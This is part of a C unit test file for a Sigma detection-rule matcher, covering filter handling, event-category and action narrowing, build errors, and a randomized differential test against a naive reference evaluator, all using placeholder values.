			      RULE("onlynot", "  filter:\n    process.name|contains: quiet\n  condition: not filter"));
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/tool\",\"name\":\"tool\",\"command_line\":"
					 "\"tool safe\",\"args\":[\"tool\",\"safe\"]},\"user\":{\"id\":5}")),
			    "args usr onlynot");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/tool\",\"name\":\"tool\",\"command_line\":"
					 "\"tool bad\",\"args\":[\"tool\",\"x\",\"--ok\"]},\"user\":{\"id\":0}")),
			    "flt onlynot");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/tool\",\"name\":\"quiet\",\"command_line\":"
					 "\"tool bad\"},\"user\":{\"name\":\"root\"}}")),
			    "flt args");
	/* no candidate: the filters' fields are not needed, results the same */
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/other\",\"name\":\"quiet\",\"command_line\":"
					 "\"safe\"}}")),
			    "");
	assert_string_equal(run(f, EXEC("\"process\":{\"executable\":\"/bin/other\",\"name\":\"loud\"}}")), "onlynot");
	fx_free(f);
	/* a field that triggers in one category and only filters in another */
	f = fx_new(CRULE("a", "process_creation", "  sel:\n    CommandLine|contains: evil\n  condition: sel")
		   CRULE("b", "file_event", "  sel:\n    file.path|startswith: /etc/\n  filter:\n"
					    "    CommandLine|contains: evil\n  condition: sel and not filter"));
	for (int i = 0; i < 2; i++) {
		assert_string_equal(run(f, ACT("exec", "\"process\":{\"command_line\":\"evil\"},\"file\":{\"path\":\"/etc/x\"}")),
				    "a");
		assert_string_equal(run(f, ACT("file_create", "\"process\":{\"command_line\":\"evil\"},"
							      "\"file\":{\"path\":\"/etc/x\"}")),
				    "");
		assert_string_equal(run(f, ACT("file_create", "\"process\":{\"command_line\":\"good\"},"
							      "\"file\":{\"path\":\"/etc/x\"}")),
				    "b");
	}
	fx_free(f);
}

/* ---- differential test: the compiled matcher against a naive evaluator ---- */

static uint64_t seed = 88172645463325252ULL;
static unsigned rnd(unsigned n)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return (unsigned)(seed >> 33) % n;
}

static const char *const vocab[] = {"alpha", "beta", "Gamma", "delta", "alphabet", "", "x y", "BETAMAX"};
static const char *const parts[] = {"alp", "ta", "MM", "a", "bet", "max", "ph", "q"};

static bool ieq(const char *a, size_t al, const char *b)
{
	return al == strlen(b) && strncasecmp(a, b, al) == 0;
}

static bool value_ok(const struct field_cond *fc, const char *v, size_t vl, const char *want)
{
	size_t wl = strlen(want);
	if (fc->mods & MOD_CONTAINS) {
		for (size_t i = 0; i + wl <= vl; i++)
			if (strncasecmp(v + i, want, wl) == 0)
				return true;
		return false;
	}
	if (fc->mods & MOD_STARTSWITH)
		return wl <= vl && strncasecmp(v, want, wl) == 0;
	if (fc->mods & MOD_ENDSWITH)
		return wl <= vl && strncasecmp(v + vl - wl, want, wl) == 0;
	return ieq(v, vl, want);
}

static bool ref_value(const struct vg_flat *ev, const struct field_cond *fc, const char *want)
{
	bool present = false, nonempty = false;
	for (int i = 0; i < ev->n; i++) {
		if (ev->f[i].name != fc->field_id)
			continue;
		present = true;
		nonempty |= ev->f[i].len > 0;
		if (want && !(fc->mods & MOD_EXISTS) && value_ok(fc, ev->f[i].val, ev->f[i].len, want))
			return true;
	}
	if (!want)
		return !nonempty;
	if (fc->mods & MOD_EXISTS)
		return present == (strcmp(want, "true") == 0);
	return false;
}

static bool ref_item(const struct vg_flat *ev, const struct field_cond *fc)
{
	for (int v = 0; v < fc->nvalues; v++) {
		bool ok = ref_value(ev, fc, fc->values[v]);
		if ((fc->mods & MOD_ALL) && !ok)
			return false;
		if (!(fc->mods & MOD_ALL) && ok)
			return true;
	}
	return (fc->mods & MOD_ALL) != 0;
}

static bool ref_sel(const struct vg_flat *ev, const struct selection *s)
{
	for (int a = 0; a < s->nalts; a++) {
		bool all = true;
		for (int i = 0; i < s->nconds[a] && all; i++)
			all = ref_item(ev, &s->conds[a][i]);
		if (all)
			return true;
	}
	return false;
}

static bool ref_cond(const struct vg_flat *ev, const struct rule *r, const struct cond_node *n)
{
	bool acc;
	switch (n->op) {
	case COND_SEL:
		return ref_sel(ev, &r->sels[n->sel]);
	case COND_AND:
		return ref_cond(ev, r, n->a) && ref_cond(ev, r, n->b);
	case COND_OR:
		return ref_cond(ev, r, n->a) || ref_cond(ev, r, n->b);
	case COND_NOT:
		return !ref_cond(ev, r, n->a);
	case COND_ONE_OF:
		acc = false;
		for (int i = 0; i < n->nsels; i++)
			acc |= ref_sel(ev, &r->sels[n->sels[i]]);
		return acc;
	case COND_ALL_OF:
		acc = true;
		for (int i = 0; i < n->nsels; i++)
			acc &= ref_sel(ev, &r->sels[n->sels[i]]);
		return acc;
	}
	return false;
}

static void gen_cond(struct strbuf *y, int depth)
{
	unsigned k = depth > 2 ? rnd(3) : rnd(8);
	switch (k) {
	case 0:
	case 1:
	case 2:
		sb_printf(y, "s%u", rnd(4));
		break;
	case 3:
		sb_puts(y, "not ");
		gen_cond(y, depth + 1);
		break;
	case 4:
		sb_puts(y, "(");
		gen_cond(y, depth + 1);
		sb_puts(y, rnd(2) ? " and " : " or ");
		gen_cond(y, depth + 1);
		sb_puts(y, ")");
		break;
	case 5:
		gen_cond(y, depth + 1);
		sb_puts(y, " and ");
		gen_cond(y, depth + 1);
		break;
	case 6:
		sb_puts(y, rnd(2) ? "1 of s*" : "all of s*");
		break;
	default:
		gen_cond(y, depth + 1);
		sb_puts(y, " or ");
		gen_cond(y, depth + 1);
		break;
	}
}

static void gen_item(struct strbuf *y, const char *indent)
{
	static const char *const mods[] = {"", "|contains", "|startswith", "|endswith", "|contains|all", "|exists", ""};
	unsigned m = rnd(7);
	sb_printf(y, "%sdiff.f%u%s: ", indent, rnd(4), mods[m]);
	if (m == 5) {
		sb_puts(y, rnd(2) ? "true\n" : "false\n");
		return;
	}
	if (m == 6) {
		sb_puts(y, rnd(2) ? "null\n" : "[null, beta]\n");
		return;
	}
	unsigned n = 1 + rnd(3);
	sb_puts(y, "[");
	for (unsigned i = 0; i < n; i++)
		sb_printf(y, "%s'%s'", i ? ", " : "", m == 0 ? vocab[rnd(8)] : parts[rnd(8)]);
	sb_puts(y, "]\n");
}

/* Rules without a category whose condition pins event.action to exact
 * values are compiled only into those actions' buckets: what they match
 * must not change, whatever the condition's shape. */
static void test_action_narrowing(void **state)
{
#define NOCAT(id, det) "title: " id "\nid: " id "\ndetection:\n" det "\n---\n"
	struct fx *f = fx_new(
		NOCAT("pinned", "  a:\n    event.action: [file_create, Connect]\n  n:\n    process.name: x\n"
				"  condition: a and n")
		NOCAT("prefix", "  a:\n    event.action|startswith: file_\n  n:\n    process.name: x\n"
				"  condition: a and n")
		NOCAT("negated", "  a:\n    event.action: file_create\n  n:\n    process.name: x\n"
				 "  condition: n and not a")
		NOCAT("wild", "  a:\n    event.action: file_d*\n  condition: a")
		NOCAT("either", "  a:\n    event.action: exec\n  n:\n    process.name: x\n  condition: a or n")
		NOCAT("alts", "  a:\n    - event.action: exec\n    - process.name: y\n  condition: a")
		NOCAT("oneof", "  a1:\n    event.action: fork\n  a2:\n    event.action: exit\n  condition: 1 of a*")
		NOCAT("allof", "  a1:\n    event.action: [fork, exit]\n  a2:\n    event.action: exit\n"
			       "  condition: all of a*")
		NOCAT("unknown", "  a:\n    event.action: [nope, ptrace]\n  condition: a"));
#undef NOCAT
	assert_string_equal(run(f, "{\"event\":{\"action\":\"file_create\"},\"process\":{\"name\":\"x\"}}"),
			    "pinned prefix either");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"connect\"},\"process\":{\"name\":\"x\"}}"),
			    "pinned negated either");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"exec\"},\"process\":{\"name\":\"x\"}}"),
			    "negated either alts");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"file_rename\"},\"process\":{\"name\":\"x\"}}"),
			    "prefix negated either");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"file_delete\"},\"process\":{\"name\":\"z\"}}"), "wild");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"ptrace\"},\"process\":{\"name\":\"y\"}}"),
			    "alts unknown");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"fork\"}}"), "oneof");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"exit\"}}"), "oneof allof");
	assert_string_equal(run(f, "{\"event\":{\"action\":\"nope\"}}"), "unknown");
	fx_free(f);
}

static void test_differential(void **state)
{
	struct strbuf y;
	sb_init(&y);
	int nr = 300;
	for (int r = 0; r < nr; r++) {
		sb_printf(&y, "title: d%d\nid: d%d\ndetection:\n", r, r);
		for (int s = 0; s < 4; s++) {
			sb_printf(&y, "  s%d:\n", s);
			if (rnd(3) == 0) { /* a list of maps */
				for (int a = 0, na = 1 + (int)rnd(2); a < na; a++) {
					gen_item(&y, "    - ");
					if (rnd(2))
						gen_item(&y, "      ");
				}
			} else {
				for (int i = 0, ni = 1 + (int)rnd(2); i < ni; i++) {
					char ind[8] = "    ";
					gen_item(&y, ind);
				}
			}
		}
		sb_puts(&y, "  condition: ");
		gen_cond(&y, 0);
		sb_puts(&y, "\n---\n");
	}
	struct fx *f = calloc(1, sizeof(*f));
	assert_non_null(f);
	struct strbuf errs;
	sb_init(&errs);
	sigma_parse(y.buf, y.len, "d.yml", &f->rules, &f->nrules, &errs);
	/* duplicate keys in one map are errors; the rest load */
	assert_true(f->nrules > nr / 2);
	f->m = matcher_build(f->rules, f->nrules, &errs);
	assert_non_null(f->m);
	vg_flat_init(&f->fl);
	int mismatches = 0;
	uint64_t total_hits = 0;
	for (int e = 0; e < 3000; e++) {
		char js[1024];
		size_t l = (size_t)snprintf(js, sizeof(js), "{\"diff\":{");
		bool first = true;
		for (int fi = 0; fi < 4; fi++) {
			unsigned k = rnd(4);
			if (k == 0)
				continue; /* absent */
			l += (size_t)snprintf(js + l, sizeof(js) - l, "%s\"f%d\":", first ? "" : ",", fi);
			first = false;
			if (k == 3) /* an array: repeated field */
				l += (size_t)snprintf(js + l, sizeof(js) - l, "[\"%s\",\"%s\"]", vocab[rnd(8)], vocab[rnd(8)]);
			else
				l += (size_t)snprintf(js + l, sizeof(js) - l, "\"%s\"", vocab[rnd(8)]);
		}
		snprintf(js + l, sizeof(js) - l, "}}");
		run(f, js);
		char want[4096] = "";
		for (int r = 0; r < f->nrules; r++)
			if (ref_cond(&f->fl, f->rules[r], f->rules[r]->cond)) {
				size_t wl = strlen(want);
				snprintf(want + wl, sizeof(want) - wl, "%s%s", wl ? " " : "", f->rules[r]->id);
				total_hits++;
			}
		if (strcmp(want, f->hits)) {
			if (mismatches++ < 3)
				fprintf(stderr, "event %s\n want %s\n got  %s\n", js, want, f->hits);
		}
	}
	fprintf(stderr, "differential: %d rules, %llu hits, %d mismatches\n", f->nrules,
		(unsigned long long)total_hits, mismatches);
	assert_int_equal(mismatches, 0);
	assert_true(total_hits > 1000); /* the test exercises matches, not just misses */
	fx_free(f);
	sb_free(&y);
	sb_free(&errs);
}

static void test_build_errors(void **state)
{
	/* a regex PCRE2 cannot compile is caught by the parser; the matcher
	 * reports what it cannot build with the rule's file and line */
	struct rule **rules = NULL;
	int n = 0;
	struct strbuf errs;
	sb_init(&errs);
	const char *y = "title: x\nid: x\ndetection:\n  sel:\n    CommandLine|re: '(a'\n  condition: sel\n";
	assert_int_equal(sigma_parse(y, strlen(y), "e.yml", &rules, &n, &errs), 0);
	assert_non_null(strstr(errs.buf, "e.yml:5: "));
	/* an empty matcher works */
	struct matcher *m = matcher_build(rules, n, &errs);
	assert_non_null(m);
	struct vg_flat fl;
	vg_flat_init(&fl);
	assert_int_equal(vg_flatten_json(&fl, "{\"a\":1}", 7), 0);
	matcher_run(m, &fl, NULL, NULL);
	matcher_free(m);
	vg_flat_free(&fl);
	free(rules);
	sb_free(&errs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_case),	 cmocka_unit_test(test_wildcards),
		cmocka_unit_test(test_positions),	 cmocka_unit_test(test_all),
		cmocka_unit_test(test_regex),		 cmocka_unit_test(test_cidr),
		cmocka_unit_test(test_base64),		 cmocka_unit_test(test_exists_null),
		cmocka_unit_test(test_numeric_fieldref), cmocka_unit_test(test_windash),
		cmocka_unit_test(test_keywords),	 cmocka_unit_test(test_multivalued),
		cmocka_unit_test(test_conditions),	 cmocka_unit_test(test_alternatives),
		cmocka_unit_test(test_categories),	 cmocka_unit_test(test_sigma_fields),
		cmocka_unit_test(test_many_rules),	 cmocka_unit_test(test_build_errors),
		cmocka_unit_test(test_differential),	 cmocka_unit_test(test_category_excludes),
		cmocka_unit_test(test_scan_memo),	 cmocka_unit_test(test_lazy_fields),
		cmocka_unit_test(test_action_narrowing),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
